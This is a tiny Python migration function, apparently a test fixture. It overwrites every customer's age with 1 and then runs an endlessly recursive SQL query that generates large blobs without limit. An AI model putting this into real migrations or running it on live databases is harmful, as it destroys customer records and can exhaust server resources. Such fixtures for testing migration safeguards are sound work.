def up(db):
    db.execute("UPDATE customer SET age = 1")
    db.query("WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i, hex(zeroblob(5000)) FROM n")
